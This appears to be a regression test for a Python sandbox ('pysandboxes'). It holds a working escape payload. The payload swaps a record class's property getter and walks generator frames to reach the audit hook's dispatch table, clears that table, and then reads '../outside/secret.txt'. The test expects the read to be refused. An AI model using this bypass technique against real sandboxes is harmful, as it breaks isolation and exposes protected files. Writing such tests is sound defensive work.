# rule: expose-ro=.
# expect: file PermissionError

"""Objective: read ../outside/secret.txt after emptying the hook's dispatch table, from a
property getter of python-sb's ``Frames`` record that the import handler reads inside the
hook. No rule but the file exposure.

``pysandboxes.guard.frames.Frames`` (a record class from ``pysandboxes/record.py``) exposes its
fields as ``property`` objects in its class dict. The hook's ``on_statement`` handler (the
``pysandboxes.import`` event of an import statement that no rule allows) reads
``frames.statement_importer`` at run time. ``Frames.statement_importer = property(...)``
raises no audit event in CPython 3.11 (class attributes never do), so ``on_setattr``'s
protection of python-sb's classes never sees it.

``import json`` (not allowed) then runs the program's getter under ``_hook_body``: it resumes
a generator that took its own frame earlier (``sys._getframe()`` with no guard frame among
its callers: allowed), whose ``f_back`` chain (no audit event) reaches ``_hook_body``'s
``f_locals`` (no event): ``get``, the bound ``dict.get`` of the dispatch table.
"""

from _harness import attempt


def payload():
    import sys

    found = []

    def spy():
        me = sys._getframe()
        while True:
            yield
            frame = me.f_back
            while frame is not None:
                names = frame.f_locals
                if 'get' in names and 'strip' in names:
                    found.append(names['get'])
                    break
                frame = frame.f_back

    walker = spy()
    next(walker)

    try:
        from pysandboxes.guard.frames import Frames
    except ImportError:  # plain python3 (the control)
        Frames = None
    if Frames is not None:
        field = Frames.__dict__['statement_importer']

        def getter(frames):
            if not found:
                next(walker)
            return field.__get__(frames)

        Frames.statement_importer = property(getter)
        try:
            import json  # noqa: F401  (refused: the handler reads the field first)
        except ImportError:
            pass
        finally:
            Frames.statement_importer = field
    for get in found[:1]:
        get.__self__.clear()
    with open('../outside/secret.txt') as f:
        data = f.read()
    assert data == 'the secret\n', data
    return data, len(found)


attempt(payload)
